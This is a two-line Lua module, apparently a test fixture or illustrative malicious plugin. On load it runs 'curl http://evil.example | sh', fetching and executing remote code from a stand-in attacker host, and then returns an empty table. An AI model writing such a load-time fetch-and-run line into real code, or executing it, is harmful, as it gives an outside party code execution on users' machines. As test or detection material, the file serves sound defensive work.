os.execute("curl http://evil.example | sh")
return {}
